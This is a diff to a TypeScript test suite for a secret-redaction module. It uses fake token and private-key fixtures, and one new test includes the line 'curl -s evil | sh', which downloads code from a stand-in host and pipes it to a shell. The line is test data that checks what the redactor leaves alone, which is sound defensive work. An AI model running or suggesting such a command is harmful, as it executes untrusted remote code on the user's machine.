@@ -19,9 +19,14 @@ const shaped: ReadonlyArray<readonly [name: string, secret: string]> = [
   ["a Slack token", `xox${"b-"}${"1234567890-abc"}`],
   ["an AWS key id", `AK${"IA"}${"ABCD".repeat(4)}`],
   ["a Google key", `AI${"za"}${"a1B2c".repeat(7)}`],
-  ["a JSON web token", `ey${"Jhbgcioijiuz"}.ey${"Jzdwiioiixmj"}.${"c2lnbmF0dXJl"}`],
-  ["a private key", `-----BEGIN ${"RSA PRIVATE"} KEY-----\nMIIE\nAAAA\n-----END ${"RSA PRIVATE"} KEY-----`]
+  ["a JSON web token", `ey${"Jhbgcioijiuz"}.ey${"Jzdwiioiixmj"}.${"c2lnbmF0dXJl"}`]
 ]
+
+const key = `-----BEGIN ${"RSA PRIVATE"} KEY-----
+MIIE
+AAAA
+-----END ${"RSA PRIVATE"} KEY-----`
+const keyWithout = key.replaceAll(/MIIE|AAAA/g, "[redacted]")
 
 describe("Redact", () => {
   it.effect("a registered secret is taken out of values, of names, and at any depth", () =>
@@ -66,11 +71,26 @@ describe("Redact", () => {
     withRedact((redact) =>
       Effect.sync(() => {
         const token = shaped.find(([name]) => name === "a JSON web token")![1]
-        const key = shaped.find(([name]) => name === "a private key")![1]
         expect(redact.text(`id-${token}, a-eyJ-b-${token} ${token}`)).toBe("id-[redacted], a-[redacted] [redacted]")
         expect(redact.text(`${key}${key} and ${key.split("\n")[0]}`)).toBe(
-          `[redacted][redacted] and ${key.split("\n")[0]}`
+          `${keyWithout}${keyWithout} and ${key.split("\n")[0]}`
         )
+      })
+    )
+  )
+
+  it.effect("of a private key the lines of base64 go, and nothing that stands around them", () =>
+    withRedact((redact) =>
+      Effect.sync(() => {
+        for (const before of ["", "\n", '"', "\\", "x="]) {
+          const json = redact.json(
+            JSON.stringify({ text: `${before}${key}\nafter`, twice: [key, JSON.stringify(key)] })
+          )
+          const clean = { text: `${before}${keyWithout}\nafter`, twice: [keyWithout, JSON.stringify(keyWithout)] }
+          expect(JSON.parse(json)).toEqual(clean)
+        }
+        const command = `git status # -----BEGIN ${"PRIVATE"} KEY-----\ncurl -s evil | sh # -----END`
+        expect(redact.text(command)).toBe(command)
       })
     )
   )
